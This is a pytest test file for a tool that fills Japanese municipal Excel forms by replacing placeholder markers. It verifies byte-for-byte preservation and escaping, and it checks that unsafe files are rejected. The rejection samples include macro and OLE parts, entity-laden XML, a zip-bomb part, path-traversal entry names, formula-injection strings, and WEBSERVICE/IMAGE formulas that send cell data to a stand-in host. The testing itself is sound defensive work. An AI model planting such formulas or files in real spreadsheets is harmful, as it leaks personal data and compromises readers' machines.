"""自治体の様式を埋める: 目印のところだけがかわり、ほかは1バイトもかわらない。手で作ったままの様式で確かめる。"""

import zipfile
from io import BytesIO

import openpyxl
import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from tests.factories.hand_form import PRINTER, changed, everywhere, hand_form, parts_of
from tests.factories.layouts import own_form, with_part
from yorisoi.sheets import own_excel
from yorisoi.sheets.rules import lines

VALUES = {
    "本人.氏名": "山川 & <光子>", "本人.ふりがな": "やまかわ みつこ", "本人.性別": "女性", "ケース.番号": "R8-0123",
    "印刷.自治体": "架空市&町", "同意.日": "令和8年\n6月12日",
}
NOTE = ("R8.6.10", "面談", "本人", "来所。", "見本 はるか", "")
FORM = hand_form()
SHEET, STRINGS, DRAWING = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/drawings/drawing1.xml"
WORKBOOK, KINDS = "xl/workbook.xml", parts_of(FORM)["[Content_Types].xml"]
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def filled(content: bytes = FORM, values: dict[str, str] = VALUES, **rows: list[tuple[str, ...]]) -> own_excel.Filled:
    return own_excel.fill(content, values, {"世帯員": [("山川 一郎",) * 5], "支援経過": [NOTE] * 3, **rows})


def told_of(content: bytes) -> list[str]:
    return [fault.message for fault in own_excel.check(content).faults]


def with_external(kind: str) -> bytes:
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    link = f'<Relationship Id="rIdX" Type="{LINK}/{kind}" Target="https://example.invalid/a" TargetMode="External"/>'
    end = b"</Relationships>"
    return changed(FORM, {rels: parts_of(FORM)[rels].replace(end, link.encode() + end)})


def with_kind(kind: str) -> bytes:
    """A form that holds a part of that kind under a name that tells nothing."""
    said = KINDS.replace(b"</Types>", f'<Override PartName="/xl/a.bin" ContentType="{kind}"/></Types>'.encode())
    return with_part(changed(FORM, {"[Content_Types].xml": said}), "xl/a.bin", b"x")


def test_すべての目印が_場所とともに見つかる():
    checked = own_excel.check(FORM)
    assert checked.faults == ()
    assert {name: str(place) for name, place in checked.places} == {
        "本人.氏名": "シート「申請書」のA1", "本人.ふりがな": "シート「申請書」のB2", "本人.性別": "シート「申請書」のB4",
        **{f"支援経過[{n}].{column}": f"シート「申請書」の{letter}{n + 10}"
           for n in (1, 2, 3) for column, letter in (("日付", "A"), ("内容", "B"))},
        "印刷.自治体": "シート「申請書」のヘッダー", "ケース.番号": "シート「申請書」のフッター",
        "世帯員[1].氏名": "シート「申請書」の図形「テキスト ボックス 2」(E9のあたり)",
        "同意.日": "シート「申請書」の図形「テキスト ボックス 2」(E9のあたり)",
    }
    assert next(str(place) for name, place in checked.places if name == "ケース.番号") == "シート「申請書」のB3"


def test_目印のない部品は_1バイトもかわらない():
    before, after = parts_of(FORM), parts_of(filled().content)
    assert list(after) == list(before)
    assert {name for name in before if before[name] != after[name]} == {SHEET, STRINGS, DRAWING}
    assert after["xl/printerSettings/printerSettings1.bin"] == PRINTER
    assert after["xl/media/image1.png"] == before["xl/media/image1.png"]


def test_図形の部品は_目印のほかはそのまま():
    before = parts_of(FORM)[DRAWING].decode()
    new_line = '</a:t></a:r><a:br><a:rPr lang="ja-JP"/></a:br><a:r><a:rPr lang="ja-JP"/><a:t>'
    expected = (
        before.replace("{{ 世帯</a:t>", "山川 一郎</a:t>").replace("<a:t>員[1].氏</a:t>", "<a:t></a:t>")
        .replace("<a:t>名 }} ほか", "<a:t> ほか").replace("{{ 同意.日 }}", f"令和8年{new_line}6月12日")
    )
    assert parts_of(filled().content)[DRAWING].decode() == expected
    assert 'prst="ellipse"' in expected


def test_文字のかざりと_分かれた目印():
    strings = parts_of(filled().content)[STRINGS].decode()
    assert (
        '<si><r><rPr><sz val="9"/></rPr><t xml:space="preserve">申請者 山川 &amp; &lt;光子&gt;</t></r>'
        '<r><rPr><sz val="9"/></rPr><t xml:space="preserve"> 様</t></r><phoneticPr fontId="1"/></si>'
    ) in strings
    assert '<r><t>男・女・</t></r><r><rPr><b val="1"/></rPr><t>女性</t></r>' in strings


def test_シートの部品は_式の古い値とヘッダーのほかはそのまま():
    before = parts_of(FORM)[SHEET].decode()
    expected = (
        before.replace("<v>古い値</v>", "").replace("{{ 印刷.自治体 }}", "架空市&amp;&amp;町")
        .replace("{{ ケース.番号 }}", "R8-0123").replace("{{ケース.番号}}", "R8-0123")
    )
    assert parts_of(filled().content)[SHEET].decode() == expected


def test_ほかのソフトでもひらける():
    made = filled().content
    sheet = openpyxl.load_workbook(BytesIO(made))["申請書"]
    read = CalamineWorkbook.from_filelike(BytesIO(made)).get_sheet_by_name("申請書").to_python()
    assert sheet["A1"].value == read[0][0] == "申請者 山川 & <光子> 様"
    assert sheet["B3"].value == read[2][1] == "第 R8-0123 号"
    assert (sheet["B6"].value, sheet["C6"].value) == ("=1+1", 12345)
    assert str(sheet.merged_cells) == "A1:F1"
    assert sheet.print_area == "'申請書'!$A$1:$H$30"
    assert sheet.data_validations.dataValidation[0].formula1 == '"自営,会社員,無職"'
    assert sheet["A2"].comment.text == "ひらがなで"
    assert sheet.protection.sheet


def test_ないものは_空のセルになる():
    made = filled(支援経過=[NOTE]).content
    sheet = openpyxl.load_workbook(BytesIO(made))["申請書"]
    assert (sheet["A11"].value, sheet["A12"].value, sheet["B13"].value) == ("R8.6.10", None, None)
    assert sheet["B12"].fill.fgColor.rgb == "00FFF2CC"
    assert filled(支援経過=[NOTE]).notices == ()


def test_行より多いときは_何件のうち何件かを言う():
    assert filled(支援経過=[NOTE] * 12).notices == ("支援経過は12件のうち3件までこの様式に入りました。",)


def test_欄によって行の数がちがえば_足りない欄を言う():
    form = own_form("{{ 支援経過[1].日付 }}", "{{ 支援経過[2].日付 }}", "{{ 支援経過[1].内容 }}")
    assert filled(form, 支援経過=[NOTE] * 2).notices == ("支援経過の内容は2件のうち1件までこの様式に入りました。",)


def test_Excelに書けない字は_除いて言う():
    made = filled(values=VALUES | {"本人.氏名": "山\x0b川\ufffe"})
    assert openpyxl.load_workbook(BytesIO(made.content))["申請書"]["A1"].value == "申請者 山川 様"
    assert made.notices == ("「本人.氏名」から、Excelに書けない字(U+000B・U+FFFE)を除きました。",)


def test_長すぎることばは_切って言う():
    made = own_excel.fill(own_form("{{ 相談.内容 }}"), {"相談.内容": "𠮷" * 20_000})
    assert openpyxl.load_workbook(BytesIO(made.content)).active["A1"].value == "𠮷" * 16_383
    assert "32,767字まで" in made.notices[0]


def test_ヘッダーは255字までで_切って言う():
    made = own_excel.fill(everywhere("{{ 相談.内容 }}"), {"相談.内容": "&家賃" * 100})
    sheet = openpyxl.load_workbook(BytesIO(made.content)).active
    assert len(f"&C{sheet.oddHeader.center.text}") <= 255
    assert sheet.oddHeader.center.text.endswith("…")
    assert made.notices == ("ヘッダーとフッターは255字までのため、「相談.内容」の終わりが入っていません。",)


def test_ヘッダーの字の大きさのすぐ後ろの数字は_離して書く():
    book = openpyxl.load_workbook(BytesIO(own_form("{{ ケース.番号 }}")))
    book.active.oddHeader.left.text = "{{ ケース.番号 }}"
    book.active.oddHeader.left.size = 12
    made = BytesIO()
    book.save(made)
    done = own_excel.fill(made.getvalue(), {"ケース.番号": "8-1"}).content
    assert b"&amp;12 8-1" in parts_of(done)[SHEET]


@pytest.mark.parametrize("text", ["=1+1", "+81", "-家賃", "@SUM(A1)", "＝1", "\t=1"])
def test_式のように始まることばは_どの置き場でも文字のまま(text):
    for form in (own_form("{{ 相談.内容 }}"), hand_form(A20="{{ 相談.内容 }}")):
        sheet = openpyxl.load_workbook(BytesIO(own_excel.fill(form, {"相談.内容": text}).content)).worksheets[0]
        cell = next(cell for row in sheet.iter_rows(max_col=1) for cell in row if cell.value == text)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_目印のように書かれたことばは_もういちど読まれない():
    made = own_excel.fill(own_form("{{ 相談.内容 }}{{ 本人.氏名 }}"), {"相談.内容": "{{ 本人.氏名 }}", "本人.氏名": "山川"})
    assert openpyxl.load_workbook(BytesIO(made.content)).active["A1"].value == "{{ 本人.氏名 }}山川"


def test_コードに見えることばも_そのまま読める():
    made = own_excel.fill(hand_form(B20="{{ 相談.内容 }}"), {"相談.内容": "_x000D_あ"})
    assert CalamineWorkbook.from_filelike(BytesIO(made.content)).get_sheet_by_index(0).to_python()[19][1] == "_x000D_あ"


@pytest.mark.parametrize("calculation", [b"", b'<calcPr calcId="191029" calcMode="manual"/>'])
def test_式は_ひらいたときに計算しなおされる(calculation):
    old = parts_of(FORM)[WORKBOOK]
    start = old.index(b"<calcPr")
    form = changed(FORM, {WORKBOOK: old[:start] + calculation + old[old.index(b"/>", start) + 2 :]})
    made = parts_of(filled(form).content)[WORKBOOK]
    assert made.count(b"<calcPr") == 1
    assert b'fullCalcOnLoad="1"' in made
    assert made.index(b"</definedNames>") < made.index(b"<calcPr")


@pytest.mark.parametrize(
    "content, words",
    [
        (own_form("{{ 支援経過.日付 }}"), "「支援経過[1].日付」のように"),
        (own_form("{{ 支援経過[0].日付 }}"), "番号に使えるのは、1から100まで"),
        (own_form("{{ 支援経過[一].日付 }}"), "番号に使えるのは、1から100まで"),
        (own_form("{{ 支援経過[101].日付 }}"), "番号に使えるのは、1から100まで"),
        (own_form("{{ 支援経過[2].月日 }}"), "日付・支援形態・相手・内容・対応者・次回の予定です"),
        (own_form("{{ 支援記録[2].内容 }}"), "「支援経過[2].内容」のことでしたら"),
        (own_form("{{ 本人[1].氏名 }}"), "「本人.氏名」のことでしたら"),
        (own_form("{{ 支援経過[1].日付 }}", "{{ 支援経過[3].日付 }}"),
         "A2に「支援経過[3].日付」がありますが、「支援経過[2].日付」が"),
        (own_form("{ 本人.氏名 }"), "A1の目印が、閉じていません"),
        (own_form("{{ 本人.", B1="氏名 }}"), "B1の目印が、閉じていません"),
        (own_form('="{{ 本人."&"氏名 }}"'), "A1の目印は、式の中にあります"),
        (own_form('="{{ 本人.氏名"&B1'), "A1の目印は、式の中にあります"),
        (changed(FORM, {DRAWING: parts_of(FORM)[DRAWING].replace("員[1].氏".encode(), "員[1].苗".encode())}),
         "図形「テキスト ボックス 2」(E9のあたり)の「世帯員[1].苗名」は、知らない目印"),
        (changed(FORM, {WORKBOOK: parts_of(FORM)[WORKBOOK].replace("記入例".encode(), "{{ 本人.氏名 }}".encode())}),
         "シートの名前か、名前の定義にある目印「本人.氏名」"),
        (with_part(FORM, "xl/charts/chart1.xml", "<a>{{ 本人.氏名 }}</a>".encode()), "グラフの中にある目印"),
    ],
)
def test_まちがった目印は_どこがなぜかと_近いものを言う(content, words):
    assert [told for told in told_of(content) if words in told] != []


@pytest.mark.parametrize(
    "content, words",
    [
        (with_part(FORM, "xl/macrosheets/sheet1.xml", b"<x/>"), "マクロ"),
        (with_part(FORM, "xl/activeX/activeX1.xml", b"<x/>"), "マクロ"),
        (with_part(FORM, "xl/embeddings/oleObject1.bin", b"x"), "埋めこまれている"),
        (with_part(FORM, "xl/connections.xml", b"<x/>"), "リンク"),
        (with_external("image"), "リンク"),
        (changed(FORM, {"[Content_Types].xml": KINDS.replace(b"sheet.main", b"template.main")}), ".xltx"),
        (changed(FORM, {"[Content_Types].xml": b"macroEnabled"}), "マクロ"),
        (changed(FORM, {SHEET: parts_of(FORM)[SHEET][:-20]}), "こわれています"),
        (changed(FORM, {SHEET: "<!DOCTYPE a><a/>".encode("utf-16")}), "安全に開けない"),
        (changed(FORM, {STRINGS: '<?xml version="1.0" encoding="UTF-16"?><sst/>'.encode("utf-16")}), "こわれています"),
        (changed(FORM, {STRINGS: b'<!DOCTYPE s [<!ENTITY a "b">]><sst/>'}), "安全に開けない"),
        (changed(FORM, {"xl/bomb.xml": b" " * 31_000_000}), "大きすぎる"),
        (with_kind("application/vnd.ms-office.vbaProject"), "マクロ"),
        (with_kind("application/vnd.ms-office.vb&#97;Project"), "マクロ"),
        (with_kind("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"), "リンク"),
        (with_kind("application/vnd.openxmlformats-officedocument.oleObject"), "埋めこまれている"),
        (changed(FORM, {"[Content_Types].xml": KINDS.decode().encode("utf-16")}), "こわれています"),
        (with_part(FORM, "xl/theme/theme9.dat", b'<!DOCTYPE s [<!ENTITY a "b">]><a/>'), "安全に開けない"),
        (with_part(FORM, "../../evil.txt", b"x"), "安全に開けない"),
        (with_part(FORM, "xl\\..\\evil.txt", b"x"), "安全に開けない"),
        (own_form("{{ 本人.氏名 }}", '=WEBSERVICE("http://example.invalid/?"&A1)'), "つながる式"),
        (own_form("{{ 本人.氏名 }}", '=_xlfn.IMAGE ("http://example.invalid/?"&A1)'), "つながる式"),
    ],
)
def test_危ないファイルは_ひらかない(content, words):
    assert [told for told in told_of(content) if words in told] != []


def test_押せるリンクのある様式は_使える():
    assert own_excel.check(with_external("hyperlink")).faults == ()


def test_同じ名前の部品が2つあるファイルは_ひらかない():
    with pytest.warns(UserWarning, match="Duplicate"):
        doubled = with_part(FORM, SHEET, b"<worksheet/>")
    assert "安全に開けない" in told_of(doubled)[0]


def test_様式の見本は_行の数に合う():
    assert own_excel.fill(FORM, VALUES, lines.EXAMPLES).notices == ("世帯員は2件のうち1件までこの様式に入りました。",)


def test_ほかの道具が作った様式も埋まる():
    made = BytesIO()
    book = xlsxwriter.Workbook(made)
    sheet, bold = book.add_worksheet("届"), book.add_format({"bold": True})
    sheet.write("A1", "{{ 本人.氏名 }}")
    sheet.write_rich_string("A2", "第 ", bold, "{{ ケース.番号 }}", " 号")
    sheet.write_formula("A3", "=LEN(A1)", None, 12)
    sheet.insert_textbox("C3", "{{ 同意.日 }}")
    sheet.set_header("&L&12{{ 印刷.自治体 }}")
    book.close()
    done = filled(made.getvalue())
    read = CalamineWorkbook.from_filelike(BytesIO(done.content)).get_sheet_by_name("届").to_python()
    assert (read[0][0], read[1][0]) == ("山川 & <光子>", "第 R8-0123 号")
    parts = {name: part.decode(errors="replace") for name, part in parts_of(done.content).items()}
    assert "令和8年" in parts[DRAWING]
    assert "&amp;L&amp;12架空市&amp;&amp;町" in parts[SHEET]
    assert "<f>LEN(A1)</f></c>" in parts[SHEET]
    assert not any("{{" in part for part in parts.values())


def test_zipとしても正しい():
    with zipfile.ZipFile(BytesIO(filled().content)) as packed:
        assert packed.testzip() is None
    assert [fault.code for fault in own_excel.check(filled().content).faults] == ["LAYOUT_WITHOUT_MARKS"]


def test_高さを決めていない行は_入ったことばに合わせて測りなおされる():
    before = parts_of(own_form("{{ 相談.内容 }}", "{{ 相談.希望 }}", "見出し"))[SHEET].decode()
    rows = before.replace('<row r="1"', '<row r="1" ht="12.8" customHeight="false"').replace(
        '<row r="2"', '<row r="2" ht="40" customHeight="true"').replace('<row r="3"', '<row r="3" ht="12.8"')
    form = changed(own_form("{{ 相談.内容 }}", "{{ 相談.希望 }}", "見出し"), {SHEET: rows.encode()})
    made = own_excel.fill(form, {"相談.内容": "家賃のこと。" * 50, "相談.希望": "仕事"}).content
    after = parts_of(made)[SHEET].decode()
    assert '<row r="1" customHeight="false"' in after
    assert '<row r="2" ht="40" customHeight="true"' in after
    assert '<row r="3" ht="12.8"' in after
